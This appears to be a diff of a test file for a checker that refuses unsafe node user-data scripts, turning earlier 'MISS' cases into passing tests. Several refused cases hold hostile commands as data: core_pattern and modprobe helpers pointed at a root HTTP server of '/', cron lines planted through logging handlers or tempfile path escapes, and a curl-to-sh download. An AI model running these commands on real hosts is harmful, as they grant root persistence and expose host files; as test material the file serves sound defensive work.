@@ -168,18 +168,16 @@ const CASES: StackCase[] = [
         ],
         NODE,
     ),
-    // MISS: (secure refused) proc(5) /proc/sys/vm, kernel docs admin-guide/sysctl/vm.rst (max_map_count): writing the
+    // Was a MISS (fixed in round 71): (secure refused) proc(5) /proc/sys/vm, kernel docs admin-guide/sysctl/vm.rst (max_map_count): writing the
     // number through procfs is `sysctl -w vm.max_map_count=262144`, which the pack accepts as a literal command, and the
     // same shell line (sh-proc-sys) is accepted. The pack: userData.ts pythonWriteRefusal refuses every target outside
     // PROGRAM_DATA_PATHS ("it writes /proc/sys/vm/max_map_count, which the node may read as configuration"). Fix: read a
     // Python write of a literal string to a literal path as the shell would write it (printf '%s' LIT > PATH), judged by
     // the same reader (so /proc/sys keys go through the sysctl judgement: py-proc-core-pattern stays refused).
-    miss(
-        py("py-proc-sys", "python: open('/proc/sys/vm/max_map_count', 'w').write('262144') (sysctl through procfs)", [
-            'with open("/proc/sys/vm/max_map_count", "w") as f:',
-            '    f.write("262144")',
-        ]),
-    ),
+    py("py-proc-sys", "python: open('/proc/sys/vm/max_map_count', 'w').write('262144') (sysctl through procfs)", [
+        'with open("/proc/sys/vm/max_map_count", "w") as f:',
+        '    f.write("262144")',
+    ]),
     py(
         "py-proc-core-pattern",
         "python: open('/proc/sys/kernel/core_pattern', 'w').write('|/opt/ops/x') (the kernel runs a program as root)",
@@ -190,29 +188,25 @@ const CASES: StackCase[] = [
         "echo 262144 > /proc/sys/vm/max_map_count",
         "echo never > /sys/kernel/mm/transparent_hugepage/enabled",
     ]),
-    // MISS: (secure refused) kernel docs admin-guide/mm/transhuge.rst ("echo never >/sys/kernel/mm/transparent_hugepage/
+    // Was a MISS (fixed in round 71): (secure refused) kernel docs admin-guide/mm/transhuge.rst ("echo never >/sys/kernel/mm/transparent_hugepage/
     // enabled"): a root program setting THP to never is what database vendors document; the shell line is accepted
     // (sh-proc-sys). pythonWriteRefusal refuses /sys (not a PROGRAM_DATA_PATH). Fix: as py-proc-sys (literal content to a
     // literal path judged as the shell's redirection).
-    miss(
-        py("py-thp", "python: Path('/sys/kernel/mm/transparent_hugepage/enabled').write_text('never')", [
-            "from pathlib import Path",
-            'Path("/sys/kernel/mm/transparent_hugepage/enabled").write_text("never")',
-            'Path("/sys/kernel/mm/transparent_hugepage/defrag").write_text("never")',
-        ]),
-    ),
-    // MISS: (secure refused) FHS 3.0 5.13 "/var/run": "this directory ... is replaced by /run" (a symlink to /run on
+    py("py-thp", "python: Path('/sys/kernel/mm/transparent_hugepage/enabled').write_text('never')", [
+        "from pathlib import Path",
+        'Path("/sys/kernel/mm/transparent_hugepage/enabled").write_text("never")',
+        'Path("/sys/kernel/mm/transparent_hugepage/defrag").write_text("never")',
+    ]),
+    // Was a MISS (fixed in round 71): (secure refused) FHS 3.0 5.13 "/var/run": "this directory ... is replaced by /run" (a symlink to /run on
     // AL2023); /run/<app>/ is a PROGRAM_DATA_PATH and /var/run/tune/tune.pid is that file. The pack: nodeReadsAsConfig
     // maps /var/run to /run but pythonWriteRefusal tests PROGRAM_DATA_PATHS on the unmapped path, so the pid file is
     // "read as configuration". Fix: normalise ^/var/run(/|$) to /run before the PROGRAM_DATA_PATHS test (py-var-run-systemd,
     // /var/run/systemd/system, stays refused through the node-state exclusion).
-    miss(
-        py("py-var-run-pid", "python: a pid file in /var/run/tune/ (FHS: /var/run is /run)", [
-            "import os",
-            'os.makedirs("/var/run/tune", exist_ok=True)',
-            'open("/var/run/tune/tune.pid", "w").write(str(os.getpid()))',
-        ]),
-    ),
+    py("py-var-run-pid", "python: a pid file in /var/run/tune/ (FHS: /var/run is /run)", [
+        "import os",
+        'os.makedirs("/var/run/tune", exist_ok=True)',
+        'open("/var/run/tune/tune.pid", "w").write(str(os.getpid()))',
+    ]),
     py(
         "py-var-run-systemd",
         "python: writes /var/run/systemd/system/x.service (a runtime unit: /run/systemd/system)",
@@ -222,23 +216,42 @@ const CASES: StackCase[] = [
         ],
         NODE,
     ),
-    // MISS: (secure refused) sysctl.d(5): /etc/sysctl.d/*.conf hold key = value lines applied by sysctl --system; the same
+    // Was a MISS (fixed in round 71): (secure refused) sysctl.d(5): /etc/sysctl.d/*.conf hold key = value lines applied by sysctl --system; the same
     // file written by user data (sh-sysctl-d) is accepted and the core_pattern one refused (sysctl-d-core-pattern). The
     // pack: pythonWriteRefusal excludes /etc/sysctl.d from an application's /etc and refuses any write there without
     // reading the literal written. Fix: as py-proc-sys (a literal string written to a literal path is read as the shell's
     // file, so sysctl.d content is judged by the sysctl reader).
-    miss(
-        py(
-            "py-sysctl-d",
-            "python: writes /etc/sysctl.d/99-k8s.conf with literal vm.max_map_count, then sysctl --system",
-            [
-                "import subprocess",
-                'with open("/etc/sysctl.d/99-k8s.conf", "w") as f:',
-                '    f.write("vm.max_map_count = 262144\\nnet.core.somaxconn = 4096\\n")',
-                'subprocess.run(["sysctl", "--system"], check=True)',
-            ],
-        ),
+    py("py-sysctl-d", "python: writes /etc/sysctl.d/99-k8s.conf with literal vm.max_map_count, then sysctl --system", [
+        "import subprocess",
+        'with open("/etc/sysctl.d/99-k8s.conf", "w") as f:',
+        '    f.write("vm.max_map_count = 262144\\nnet.core.somaxconn = 4096\\n")',
+        'subprocess.run(["sysctl", "--system"], check=True)',
+    ]),
+    // Round 71 neighbours: a literal sysctl.d file or procfs value pointing a kernel helper at a program stays refused; a
+    // value the pack cannot read fails closed; a literal file pattern for core dumps is accepted.
+    py(
+        "py-sysctl-d-core-pattern",
+        "python: writes /etc/sysctl.d/99-x.conf with kernel.core_pattern=|/usr/bin/python3 -m http.server 8001 -d /",
+        [
+            'open("/etc/sysctl.d/99-x.conf", "w").write("kernel.core_pattern = |/usr/bin/python3 -m http.server 8001 -d /\\n")',
+        ],
+        NODE,
     ),
+    py(
+        "py-proc-modprobe",
+        "python: Path('/proc/sys/kernel/modprobe').write_text('/opt/ops/x') (the kernel runs it as root)",
+        ["from pathlib import Path", 'Path("/proc/sys/kernel/modprobe").write_text("/opt/ops/x")'],
+        NODE,
+    ),
+    py(
+        "py-proc-sys-computed",
+        "python: open('/proc/sys/kernel/core_pattern', 'w').write(os.environ['PATTERN']) (content the pack cannot read)",
+        ["import os", 'open("/proc/sys/kernel/core_pattern", "w").write(os.environ["PATTERN"])'],
+        NODE,
+    ),
+    py("py-proc-core-file", "python: open('/proc/sys/kernel/core_pattern', 'w').write('/var/crash/core.%e.%p')", [
+        'open("/proc/sys/kernel/core_pattern", "w").write("/var/crash/core.%e.%p")',
+    ]),
     node("sh-sysctl-d", "control: the same sysctl.d file written by the user data, then sysctl --system", [
         ...file("/etc/sysctl.d/99-k8s.conf", ["vm.max_map_count = 262144", "net.core.somaxconn = 4096"]),
         "sysctl --system",
@@ -256,48 +269,104 @@ const CASES: StackCase[] = [
         'subprocess.run(["sysctl", "-w", "vm.swappiness=10"], check=True)',
         'logging.info("tuned")',
     ]),
-    // MISS: (insecure accepted) Python docs, logging.basicConfig ("filename: Specifies that a FileHandler be created, using
+    // Was a MISS (fixed in round 71): (insecure accepted) Python docs, logging.basicConfig ("filename: Specifies that a FileHandler be created, using
     // the specified filename"; format="%(message)s" writes the message alone): root's program writes the @reboot line into
     // /etc/cron.d/tune, which cron runs as root (crontab(5)): an http.server of /etc/kubernetes on 0.0.0.0:8001 for every
     // pod. The pack: userData.ts pythonWriteRefusal counts open/io/codecs/os.open/pathlib/shutil/os.rename writes only, not
     // logging handlers (got []). Fix: count logging.basicConfig(filename=), logging.FileHandler/handlers.RotatingFileHandler/
     // TimedRotatingFileHandler/WatchedFileHandler(filename) (and dictConfig/fileConfig filename keys, fail closed) as writes
     // of that path; py-logging-file (/var/log/tune.log) stays accepted.
-    miss(
-        py(
-            "py-logging-cron",
-            "python: logging.basicConfig(filename='/etc/cron.d/tune', format='%(message)s'); logging.warning(cron line)",
-            [
-                "import logging",
-                'logging.basicConfig(filename="/etc/cron.d/tune", format="%(message)s")',
-                `logging.warning("${CRON_LINE}")`,
-            ],
-            NODE,
-        ),
+    py(
+        "py-logging-cron",
+        "python: logging.basicConfig(filename='/etc/cron.d/tune', format='%(message)s'); logging.warning(cron line)",
+        [
+            "import logging",
+            'logging.basicConfig(filename="/etc/cron.d/tune", format="%(message)s")',
+            `logging.warning("${CRON_LINE}")`,
+        ],
+        NODE,
     ),
+    // Round 71 neighbours: every logging handler that opens a file is a write of it (pythonWriteRefusal).
+    py(
+        "py-rotating-cron",
+        "python: logging.handlers.RotatingFileHandler('/etc/cron.d/tune') holding the cron line",
+        [
+            "import logging, logging.handlers",
+            'h = logging.handlers.RotatingFileHandler("/etc/cron.d/tune")',
+            'h.setFormatter(logging.Formatter("%(message)s"))',
+            "log = logging.getLogger('x')",
+            "log.addHandler(h)",
+            `log.warning("${CRON_LINE}")`,
+        ],
+        NODE,
+    ),
+    py(
+        "py-dictconfig-cron",
+        "python: dictConfig with a FileHandler filename '/etc/cron.d/tune'",
+        [
+            "import logging, logging.config",
+            "logging.config.dictConfig({'version': 1, 'formatters': {'m': {'format': '%(message)s'}},",
+            "    'handlers': {'f': {'class': 'logging.FileHandler', 'filename': '/etc/cron.d/tune', 'formatter': 'm'}},",
+            "    'root': {'handlers': ['f']}})",
+            `logging.warning("${CRON_LINE}")`,
+        ],
+        NODE,
+    ),
+    py(
+        "py-fileconfig",
+        "python: logging.config.fileConfig('/opt/ops/logging.ini') (its handlers' args are evaluated: fail closed)",
+        ["import logging.config", 'logging.config.fileConfig("/opt/ops/logging.ini")'],
+        NODE,
+    ),
+    py("py-filehandler-log", "python: logging.FileHandler('/var/log/ops/tune.log') (a log file)", [
+        "import logging, os",
+        'os.makedirs("/var/log/ops", exist_ok=True)',
+        'logging.getLogger().addHandler(logging.FileHandler("/var/log/ops/tune.log"))',
+        'logging.warning("tuned")',
+    ]),
     py("py-tempfile-data", "python: tempfile.NamedTemporaryFile('w', dir='/var/lib/ops', delete=False)", [
         "import os, tempfile",
         'os.makedirs("/var/lib/ops", exist_ok=True)',
         'with tempfile.NamedTemporaryFile("w", dir="/var/lib/ops", delete=False) as f:',
         '    f.write("ok\\n")',
     ]),
-    // MISS: (insecure accepted) Python docs, tempfile.NamedTemporaryFile/mkstemp ("dir ... the file will be created in that
+    // Was a MISS (fixed in round 71): (insecure accepted) Python docs, tempfile.NamedTemporaryFile/mkstemp ("dir ... the file will be created in that
     // directory"; delete=False keeps it; names are random [a-z0-9_] without a dot, which cronie reads from /etc/cron.d):
     // the file holds the @reboot line root's cron runs (crontab(5)). pythonWriteRefusal has no tempfile forms (got []).
     // Fix: NamedTemporaryFile/mkstemp/mkdtemp/TemporaryDirectory with dir= (or prefix= holding a '/') are writes into that
     // directory (a file under it), judged like open(dir + '/x', 'w'); TemporaryFile (O_TMPFILE, no name) may stay accepted.
-    miss(
-        py(
-            "py-tempfile-cron",
-            "python: tempfile.NamedTemporaryFile('w', dir='/etc/cron.d', delete=False) holding a cron line",
-            [
-                "import tempfile",
-                'with tempfile.NamedTemporaryFile("w", dir="/etc/cron.d", delete=False) as f:',
-                `    f.write("${CRON_LINE}\\n")`,
-            ],
-            NODE,
-        ),
+    py(
+        "py-tempfile-cron",
+        "python: tempfile.NamedTemporaryFile('w', dir='/etc/cron.d', delete=False) holding a cron line",
+        [
+            "import tempfile",
+            'with tempfile.NamedTemporaryFile("w", dir="/etc/cron.d", delete=False) as f:',
+            `    f.write("${CRON_LINE}\\n")`,
+        ],
+        NODE,
     ),
+    // Round 71 neighbours: mkstemp(dir=) and a prefix leaving /tmp are writes there; no dir= is /tmp.
+    py(
+        "py-mkstemp-cron",
+        "python: fd, p = tempfile.mkstemp(dir='/etc/cron.d'); os.write(fd, cron line)",
+        ["import os, tempfile", 'fd, p = tempfile.mkstemp(dir="/etc/cron.d")', `os.write(fd, b"${CRON_LINE}\\n")`],
+        NODE,
+    ),
+    py(
+        "py-tempfile-prefix-escape",
+        "python: tempfile.mkstemp(prefix='../etc/cron.d/') (a prefix with a slash leaves /tmp)",
+        [
+            "import os, tempfile",
+            'fd, p = tempfile.mkstemp(prefix="../etc/cron.d/")',
+            `os.write(fd, b"${CRON_LINE}\\n")`,
+        ],
+        NODE,
+    ),
+    py("py-tempfile-tmp", "python: tempfile.NamedTemporaryFile('w', delete=False) (no dir=: /tmp)", [
+        "import tempfile",
+        'with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as f:',
+        '    f.write("{}")',
+    ]),
 
     // ================= nodes: literal commands naming node config paths (round 71 literalCommandListeners) ==========
     py(
@@ -317,6 +386,9 @@ const CASES: StackCase[] = [
     // program "runs commands the pack does not read". Fix: judge such a literal argv exactly as the shell line (rootReads
     // copy/edit readers, which already judge sed -i on unit directories: py-sub-sed-unit stays refused) instead of
     // failing closed.
+    // Still open (round 71): literalCommandListeners has no NodeJudge (rootReads' copy/edit readers run only on user
+    // data's own text); judging an argv "exactly as the shell line" needs the Python listener readers to be given the
+    // user data's judge (or a nested rootReadOpenings over the quoted argv with the script's written files), not done.
     miss(
         py(
             "py-sub-sed-journald",
@@ -361,25 +433,21 @@ const CASES: StackCase[] = [
         "chomp $cur;",
         "system('sysctl', '-w', 'vm.max_map_count=262144') if $cur < 262144;",
     ]),
-    // MISS: (secure refused) perlop, "qx/STRING/": "A string which is (possibly) interpolated and then executed as a
+    // Was a MISS (fixed in round 71): (secure refused) perlop, "qx/STRING/": "A string which is (possibly) interpolated and then executed as a
     // system command, via /bin/sh" - `df -h / 2>&1` is a literal shell line with a redirection of stderr only. The pack:
     // userData.ts literalScriptCommands (round 71) reads "plain literal shell lines" only (no redirection, pipe or
     // operator), so /opt/ops/check.pl "starts a process". Fix: give the backtick literal to the same shell-line reader as
     // Python shell=True / os.popen (judged as a user-data line), refusing what that reader refuses (perl-backticks-serve).
-    miss(
-        perl("perl-backticks-redirect", "perl: my $df = `df -h / 2>&1` (a literal line with a redirection)", [
-            "my $df = `df -h / 2>&1`;",
-            "print $df;",
-        ]),
-    ),
-    // MISS: (secure refused) perlop qx (via /bin/sh): `lsblk -dno NAME | grep nvme` is a literal pipeline of two reading
+    perl("perl-backticks-redirect", "perl: my $df = `df -h / 2>&1` (a literal line with a redirection)", [
+        "my $df = `df -h / 2>&1`;",
+        "print $df;",
+    ]),
+    // Was a MISS (fixed in round 71): (secure refused) perlop qx (via /bin/sh): `lsblk -dno NAME | grep nvme` is a literal pipeline of two reading
     // commands; literalScriptCommands accepts only plain lines. Fix: as perl-backticks-redirect.
-    miss(
-        perl("perl-backticks-pipe", "perl: my @disks = `lsblk -dno NAME | grep nvme` (a literal pipeline)", [
-            "my @disks = `lsblk -dno NAME | grep nvme`;",
-            'print scalar(@disks), "\\n";',
-        ]),
-    ),
+    perl("perl-backticks-pipe", "perl: my @disks = `lsblk -dno NAME | grep nvme` (a literal pipeline)", [
+        "my @disks = `lsblk -dno NAME | grep nvme`;",
+        'print scalar(@disks), "\\n";',
+    ]),
     perl(
         "perl-backticks-serve",
         "perl: `cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &`",
@@ -391,15 +459,13 @@ const CASES: StackCase[] = [
         "cpus = `nproc`.to_i",
         'puts "#{kernel} #{cpus}"',
     ]),
-    // MISS: (secure refused) Ruby docs Kernel#` ("Returns the standard output of running cmd in a subshell"; /bin/sh for
+    // Was a MISS (fixed in round 71): (secure refused) Ruby docs Kernel#` ("Returns the standard output of running cmd in a subshell"; /bin/sh for
     // a line with meta characters): a grep | awk pipeline reading /proc/meminfo. literalScriptCommands reads plain lines
     // only. Fix: as perl-backticks-redirect (ruby-percent-x-serve stays refused).
-    miss(
-        ruby("ruby-backticks-pipe", "ruby: mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`", [
-            "mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`.to_i",
-            "system('sysctl', '-w', 'vm.min_free_kbytes=65536') if mem > 16_000_000",
-        ]),
-    ),
+    ruby("ruby-backticks-pipe", "ruby: mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`", [
+        "mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`.to_i",
+        "system('sysctl', '-w', 'vm.min_free_kbytes=65536') if mem > 16_000_000",
+    ]),
     ruby(
         "ruby-percent-x-serve",
         "ruby: %x(cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &)",
@@ -409,31 +475,101 @@ const CASES: StackCase[] = [
 
     // ================= nodes: xargs (round 71 rootReads xargs) =================
 
-    // MISS: (insecure accepted) core(5), "Piping core dumps to a program" (https://man7.org/linux/man-pages/man5/core.5.html):
+    // Was a MISS (fixed in round 71): (insecure accepted) core(5), "Piping core dumps to a program" (https://man7.org/linux/man-pages/man5/core.5.html):
     // when core_pattern starts with '|' the kernel runs the rest as a program, as root, on every crash; any pod can crash a
     // process of its own (kill -SEGV), so the line starts a root http.server of / on 0.0.0.0:8001 from the host's namespaces.
     // The same value through sysctl -w or /etc/sysctl.d is refused (sysctl-w-core-pattern, sysctl-d-core-pattern hold);
     // the shell's redirection into /proc/sys/kernel/core_pattern is accepted (got []): /proc/sys writes are not read as the
     // sysctl they are. Fix (rootReads/userData redirect targets): a write to /proc/sys/<a>/<b> is `sysctl -w a.b=<content>`
     // (and /sys/... module parameters alike), judged by the same sysctl reader; unknown content fails closed.
-    miss(
-        node(
-            "sh-core-pattern",
-            "echo '|/usr/bin/python3 -m http.server 8001 -d /' > /proc/sys/kernel/core_pattern (a crash starts root's server)",
-            ["echo '|/usr/bin/python3 -m http.server 8001 -d /' > /proc/sys/kernel/core_pattern"],
-            /core_pattern|program|unread|writes|kernel/,
-        ),
+    node(
+        "sh-core-pattern",
+        "echo '|/usr/bin/python3 -m http.server 8001 -d /' > /proc/sys/kernel/core_pattern (a crash starts root's server)",
+        ["echo '|/usr/bin/python3 -m http.server 8001 -d /' > /proc/sys/kernel/core_pattern"],
+        /core_pattern|program|unread|writes|kernel/,
     ),
-    // MISS: (secure refused) Python docs subprocess ("If shell is True, the specified command will be executed through the
+    // Round 71 neighbours: every form of the same setting is one reading (userData.ts writtenSysctls/commandSysctls,
+    // corePatternCommand): sysctl -w, a sysctl.d file, tee and dd into procfs refused; a copy of unknown content into
+    // core_pattern fails closed; systemd-coredump (the distro's handler) and a file pattern stay accepted.
+    node(
+        "sysctl-w-core-pattern",
+        "sysctl -w kernel.core_pattern='|/usr/bin/python3 -m http.server 8001 -d /'",
+        ["sysctl -w kernel.core_pattern='|/usr/bin/python3 -m http.server 8001 -d /'"],
+        /core_pattern|program|unread|writes|kernel/,
+    ),
+    node(
+        "sysctl-d-core-pattern",
+        "/etc/sysctl.d/50-core.conf: kernel.core_pattern = |/usr/bin/python3 -m http.server 8001 -d /, sysctl --system",
+        [
+            ...file("/etc/sysctl.d/50-core.conf", ["kernel.core_pattern = |/usr/bin/python3 -m http.server 8001 -d /"]),
+            "sysctl --system",
+        ],
+        /core_pattern|program|unread|writes|kernel/,
+    ),
+    node(
+        "tee-core-pattern",
+        "printf '%s\\n' '|/usr/bin/python3 -m http.server 8001 -d /' | tee /proc/sys/kernel/core_pattern",
+        ["printf '%s\\n' '|/usr/bin/python3 -m http.server 8001 -d /' | tee /proc/sys/kernel/core_pattern"],
+        /core_pattern|program|unread|writes|kernel/,
+    ),
+    node(
+        "dd-core-pattern",
+        "echo '|/usr/bin/python3 -m http.server 8001 -d /' | dd of=/proc/sys/kernel/core_pattern",
+        ["echo '|/usr/bin/python3 -m http.server 8001 -d /' | dd of=/proc/sys/kernel/core_pattern"],
+        /core_pattern|program|unread|writes|kernel/,
+    ),
+    node(
+        "cp-core-pattern",
+        "cp of a downloaded file into /proc/sys/kernel/core_pattern (content the pack cannot read)",
+        ["curl -fsSo /tmp/pattern https://example.com/pattern", "cp /tmp/pattern /proc/sys/kernel/core_pattern"],
+        /core_pattern|program|unread|writes|kernel/,
+    ),
+    node(
+        "sh-core-pattern-coredump",
+        "echo '|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h' > /proc/sys/kernel/core_pattern; a file pattern",
+        [
+            "echo '|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h' > /proc/sys/kernel/core_pattern",
+            "sysctl -w kernel.core_pattern=/var/crash/core.%e.%p",
+        ],
+    ),
+    // Was a MISS (fixed in round 71): (secure refused) Python docs subprocess ("If shell is True, the specified command will be executed through the
     // shell"): a literal pipeline of lsblk | grep. Round 69 accepted shell=True plain lines (py-shell-true); a pipeline is
     // refused as "runs commands the pack does not read" (userData.ts pythonCommandRuns / plainShellLines). Fix: judge a
     // literal shell= line with the user-data shell reader (pipelines, redirections, && lists), as in perl/ruby above.
-    miss(
-        py("py-shell-pipe", "python: subprocess.run('lsblk -dno NAME | grep nvme', shell=True) (a literal pipeline)", [
-            "import subprocess",
-            "subprocess.run('lsblk -dno NAME | grep nvme', shell=True)",
-        ]),
+    py("py-shell-pipe", "python: subprocess.run('lsblk -dno NAME | grep nvme', shell=True) (a literal pipeline)", [
+        "import subprocess",
+        "subprocess.run('lsblk -dno NAME | grep nvme', shell=True)",
+    ]),
+    // Round 71 neighbours: a literal pipeline's every command is judged (plainShellPipelines), a shell reading the pipe
+    // runs what the pack does not read, a tee into /etc/cron.d writes a node path; discarding output stays accepted.
+    py(
+        "py-shell-pipe-sh",
+        "python: subprocess.run('curl -fsS https://example.com/x | sh', shell=True) (a shell runs what it downloads)",
+        ["import subprocess", "subprocess.run('curl -fsS https://example.com/x | sh', shell=True)"],
+        NODE,
     ),
+    py(
+        "py-shell-pipe-tee-cron",
+        "python: subprocess.run('echo x | tee /etc/cron.d/tune', shell=True) (tee writes a cron file)",
+        ["import subprocess", "subprocess.run('echo x | tee /etc/cron.d/tune >/dev/null', shell=True)"],
+        NODE,
+    ),
+    py(
+        "py-shell-redirect-file",
+        "python: subprocess.run('lsblk > /etc/cron.d/tune', shell=True) (a redirection the pack does not read here)",
+        ["import subprocess", "subprocess.run('lsblk > /etc/cron.d/tune', shell=True)"],
+        NODE,
+    ),
+    perl(
+        "perl-backticks-pipe-serve",
+        "perl: `echo | python3 -m http.server 8001 -d / 2>&1` (a pipeline member serving /)",
+        ["my $out = `echo | python3 -m http.server 8001 -d / 2>&1`;"],
+        NODE,
+    ),
+    py("py-shell-pipe-discard", "python: subprocess.run('df -h / 2>/dev/null | tail -n 1', shell=True)", [
+        "import subprocess",
+        "subprocess.run('df -h / 2>/dev/null | tail -n 1', shell=True)",
+    ]),
     node(
         "supervisord-env-own-unit",
         "supervisord in its own unit with Environment=LISTEN=127.0.0.1:9100, %(ENV_LISTEN)s",
@@ -579,6 +715,9 @@ const CASES: StackCase[] = [
     // supervisord.service and fails closed (%(...)s "the pack cannot compute"). Fix: for the packaged unit (EPEL
     // supervisor's supervisord.service sets no Environment/EnvironmentFile), take the variables from the drop-ins user data
     // wrote for it; a variable none of them sets stays unknown (supervisord-env-serve stays refused).
+    // Still open (round 71): rootReads.ts supervisor() judges a /etc/supervisord.d file when it is written; reading the
+    // drop-ins' Environment= there is unsound (a later drop-in may change the value supervisord finally starts with), so
+    // the packaged unit's programs must be judged once every file is written (as units' Exec lines are), not done.
     miss(
         node(
             "supervisord-env-unit",
